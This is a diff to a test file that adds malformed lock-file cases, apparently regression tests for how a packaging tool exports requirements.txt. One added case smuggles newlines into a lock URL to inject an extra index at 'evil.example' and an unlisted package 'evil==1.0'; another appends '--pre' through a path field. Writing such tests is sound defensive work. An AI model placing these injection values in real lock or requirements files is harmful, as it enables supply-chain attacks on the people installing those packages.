@@ -81,6 +81,14 @@ LOCK_CASES: dict[str, Callable[[str], str | bytes]] = {
     "url-file-scheme": lambda t: _six_url_to(
         t, 'url = "file:///etc/six-1.17.0-py2.py3-none-any.whl"'
     ),
+    # A line break in a URL ended the exported requirement line and started others: an extra
+    # index and a package no lock entry names reached the image's requirements.txt.
+    "url-line-break": lambda t: _six_url_to(
+        t,
+        'url = "http://127.0.0.1:9/x\\\\n--extra-index-url http://evil.example/simple\\\\n'
+        'evil==1.0\\\\n/six-1.17.0-py2.py3-none-any.whl"',
+    ),
+    "path-space": lambda t: _six_url_to(t, 'path = "six-1.17.0-py2.py3-none-any.whl --pre"'),
 }
 
 # Every command that reads a lock; "L" is the malformed lock, outputs go to the project.
